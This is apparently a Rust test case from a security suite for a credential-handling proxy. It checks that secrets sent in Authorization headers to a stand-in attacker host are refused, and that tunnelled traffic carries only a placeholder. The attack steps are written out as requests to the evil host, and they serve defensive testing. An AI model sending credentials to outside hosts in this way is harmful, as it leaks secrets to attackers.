//! A1: the attacker sends the placeholder straight to a server of its own. A secret goes where its destinations say
//! and nowhere else; elsewhere a placeholder in a credential header is refused.

use serde_json::json;

use crate::{
    ensure,
    lease::Way,
    scene::{Scene, Verdict},
    world::World,
};

pub(crate) async fn case(world: &'static World) -> Verdict {
    let scene = Scene::new(world, "A1").await;
    let lease = scene.lease().await;
    scene.works(&lease).await;
    for way in [Way::Absolute, Way::Base] {
        let bearer = lease.bearer("KEY");
        let answer =
            lease.send(way, "GET", &scene.evil_authority(), "/", &[("Authorization", &bearer)], b"").await;
        scene.deny(&answer, 403, "destination_not_allowed").await?;
    }
    // A tunnel to another host is not looked into: what arrives is the placeholder, which is worth nothing there.
    let (conn, answer) = lease.connect(&scene.evil_authority()).await;
    assert_eq!(answer.status, 200, "{}", answer.text());
    let mut conn = conn.tls(&scene.evil, &world.authority.pem(), &[]).await.unwrap();
    conn.write(format!("GET / HTTP/1.1\r\nHost: x\r\nAuthorization: {}\r\n\r\n", lease.bearer("KEY"))).await;
    ensure!(conn.answer().await.text().contains(lease.ph("KEY")), "the tunnel changed what went through it");
    // The same as a sealed request, and with no destination at all.
    let step = json!({"url": scene.evil_url("/"), "auth": {"secret": "KEY"}});
    scene.deny_reply(&scene.sealed(&step).await, 403, "destination_not_allowed").await?;
    scene.secret("NOWHERE", "text", json!([]), json!({"value": scene.s})).await;
    let step = json!({"url": scene.evil_url("/"), "auth": {"secret": "NOWHERE"}});
    scene.deny_reply(&scene.sealed(&step).await, 403, "destination_required").await?;
    let body = json!({"environment": "test", "secrets": [{"name": "NOWHERE"}]});
    scene.deny_reply(&scene.p.post("/leases", body).await, 403, "destination_required").await?;
    scene.nosend()
}
